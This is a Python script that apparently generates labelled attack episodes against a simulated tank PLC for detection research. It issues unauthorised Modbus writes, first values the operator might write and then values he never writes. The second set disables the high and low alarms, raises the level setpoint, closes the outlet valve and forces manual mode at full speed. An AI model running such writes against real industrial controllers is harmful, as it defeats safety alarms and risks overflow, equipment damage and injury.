"""Unauthorised writes: first values the operator might have written, then values he never writes."""

import time

from attacks.episode import Connection, arguments, episode, ports, read_registers, write_coil, write_register
from hosts import tank

PAUSE_SECONDS = 0.4
REPEATS = 4

WITHIN_HABIT = (
    write_register(tank.LEVEL_SETPOINT, 600),
    write_register(tank.TEMPERATURE_SETPOINT, 540),
    write_coil(tank.MIXER, False),
    write_coil(tank.LAMP, True),
    write_register(tank.MIXER_SPEED, 90),
)
OUTSIDE_HABIT = (
    write_register(tank.ALARM_HIGH, 1000),
    write_register(tank.ALARM_LOW, 0),
    write_register(tank.LEVEL_SETPOINT, 985),
    write_coil(tank.OUTLET, False),
    write_register(tank.MODE, 0),
    write_register(tank.MANUAL_SPEED, 1000),
    write_coil(tank.HEATER, False),
)


def write_all(opened: list[int], requests: tuple[bytes, ...]) -> None:
    with Connection(opened) as plc:
        for _ in range(REPEATS):
            for request in requests:
                plc.request(request)
                plc.request(read_registers(4, 0, 8))
                time.sleep(PAUSE_SECONDS)


if __name__ == "__main__":
    given = arguments(__doc__)
    opened: list[int] = []
    description = "setpoints and coils written as the operator writes them"
    with episode(given.log, "write_within_habit", description, [ports(opened)]):
        write_all(opened, WITHIN_HABIT)
    time.sleep(15)
    opened = []
    description = "alarm limits, setpoints, mode and valves set to what the operator never sets"
    with episode(given.log, "write_outside_habit", description, [ports(opened)]):
        write_all(opened, OUTSIDE_HABIT)
